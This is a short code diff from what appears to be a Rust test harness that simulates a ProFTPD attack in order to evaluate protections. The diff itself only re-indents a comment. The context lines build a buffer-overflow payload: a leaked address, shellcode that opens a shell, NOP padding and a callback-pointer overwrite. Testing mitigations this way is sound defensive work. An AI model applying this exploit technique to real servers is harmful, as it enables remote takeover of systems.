@@ -449,10 +449,10 @@ fn run_proftpd(protection: &Protection) -> ScenarioReport {
     let conn = external_connect_patiently(&mut k, 21, BUDGET).expect("server listening");
     let banner = String::from_utf8_lossy(&ext_recv_wait(&mut k, &conn, BUDGET)).into_owned();
     let xlbuf = parse_leak(&banner, 1).expect("leak in banner"); // 0 is "220"
-    // Upload: shellcode + padding to the translate-buffer size + the
-    // callback overwrite (no LF bytes, so translation is the identity and
-    // the 132-byte output overflows the 128-byte buffer by exactly the
-    // pointer).
+                                                                 // Upload: shellcode + padding to the translate-buffer size + the
+                                                                 // callback overwrite (no LF bytes, so translation is the identity and
+                                                                 // the 132-byte output overflows the 128-byte buffer by exactly the
+                                                                 // pointer).
     let mut upload = shellcode::shell_on_fd(3);
     upload.resize(128, 0x90);
     upload.extend_from_slice(&xlbuf.to_le_bytes());
